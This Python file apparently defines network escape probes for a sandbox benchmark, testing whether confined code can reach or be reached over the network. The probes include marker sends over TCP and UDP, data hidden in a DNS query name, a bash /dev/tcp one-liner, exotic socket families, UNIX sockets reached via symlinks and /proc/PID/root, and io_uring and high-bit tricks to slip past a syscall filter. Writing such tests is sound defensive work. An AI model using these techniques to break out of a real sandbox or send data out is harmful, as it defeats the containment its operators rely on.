"""Attacks by the network: reaching anything, or being reached."""

from functools import partial

from hepcoder.benchmarks.attacks.attack import Attack

_INTERNET = "TCP, UDP and DNS"
_FAMILIES = "other socket families: raw, netlink, vsock, AF_ALG ..."
_LOCAL = "UNIX sockets by path"
_ABSTRACT = "UNIX sockets by abstract name"
_LISTEN = "be a server"
_RING = "sockets behind the filter's back: io_uring, high bits"
_FAMILY_LOOP = """
opened = []
for family in [*range(2, 10), *range(11, 46)]:
    for kind in (1, 2, 3, 5):
        try: socket.socket(family, kind).close(); opened.append(family); break
        except OSError: pass
return opened
"""
_DNS = """
label = bytes([len(WORD)]) + WORD.encode()
query = struct.pack('!6H', 7, 256, 1, 0, 0, 0) + label + b'\\x07example\\x00' + struct.pack('!2H', 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', P.udp))
"""
_SHELL = """
import subprocess
subprocess.run(['/bin/bash', '-c', f'echo "{WORD}" > /dev/tcp/127.0.0.1/{P.tcp}'], timeout=3)
"""


def _connect(where: str) -> str:
    return f"s = socket.socket(socket.AF_UNIX); s.connect({where}); s.send(WORD.encode()); return 'connected'"


def _send(where: str) -> str:
    return f"socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(WORD.encode(), {where}); return 'sent'"


_probe = partial(Attack, group="network")

# fmt: off
NETWORK = (
    _probe("tcp_connect", _INTERNET, "TCP to this machine",
           "socket.create_connection(('127.0.0.1', P.tcp), 2).send(WORD.encode()); return 'connected'"),
    _probe("tcp6_connect", _INTERNET, "TCP over IPv6",
           "socket.create_connection(('::1', P.tcp6), 2).send(WORD.encode()); return 'connected'", needs="tcp6"),
    _probe("udp_send", _INTERNET, "UDP to this machine",
           "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORD.encode(), ('127.0.0.1', P.udp))"),
    _probe("dns_query", _INTERNET, "data hidden in the name of a DNS query", _DNS),
    _probe("shell_connect", _INTERNET, "by another program: bash and /dev/tcp", _SHELL),
    _probe("raw_socket", _FAMILIES, "raw ICMP", "return str(socket.socket(2, 3, 1))"),
    _probe("netlink_socket", _FAMILIES, "netlink", "return str(socket.socket(16, 3))"),
    _probe("packet_socket", _FAMILIES, "packets of the link layer", "return str(socket.socket(17, 3))"),
    _probe("vsock_socket", _FAMILIES, "vsock, to the hypervisor", "return str(socket.socket(40, 1))"),
    _probe("alg_socket", _FAMILIES, "AF_ALG, the kernel's ciphers", "return str(socket.socket(38, 5))"),
    _probe("any_socket", _FAMILIES, "any of 43 families", _FAMILY_LOOP),
    _probe("unix_connect", _LOCAL, "a socket outside", _connect("P.unix_path")),
    _probe("unix_connect_in_data", _LOCAL, "a socket in the folder of the inputs", _connect("P.unix_in_data")),
    _probe("unix_datagram_in_data", _LOCAL, "a datagram socket there", _send("P.datagram_in_data")),
    _probe("unix_by_pair", _LOCAL, "the same by one end of a socket pair",
           "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
           "a.sendto(WORD.encode(), P.datagram_in_data); return 'sent'"),
    _probe("unix_by_link", _LOCAL, "a socket outside through a symbolic link",
           "os.symlink(P.unix_path, 'socket-link')\n" + _connect("'socket-link'")),
    _probe("unix_by_agent_root", _LOCAL, "a socket outside through the agent's /proc/PID/root",
           "os.symlink(f'/proc/{P.victim}/root{P.unix_path}', 'agent-link')\n" + _connect("'agent-link'")),
    _probe("abstract_connect", _ABSTRACT, "a stream socket", _connect(r"'\0' + P.unix_abstract")),
    _probe("abstract_datagram", _ABSTRACT, "a datagram socket", _send(r"'\0' + P.datagram_abstract")),
    _probe("tcp_listen", _LISTEN, "listen on a TCP port",
           "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); return s.getsockname()[1]"),
    _probe("udp_bind", _LISTEN, "bind a UDP port",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 0)); return s.getsockname()[1]"),
    _probe("ring_setup", _RING, "set up an io_uring",
           "return reached('io_uring_setup', 4, ctypes.create_string_buffer(256))", needs="io_uring_setup"),
    _probe("high_bits_socket", _RING, "AF_INET with bits that the kernel ignores",
           "return reached('socket', socket.AF_INET | 1 << 32, 1, 0)"),
    _probe("high_bits_pair", _RING, "a datagram pair with bits that the kernel ignores",
           "return reached('socketpair', 1, 2 | 1 << 32, 0, ctypes.create_string_buffer(8))"),
)
# fmt: on
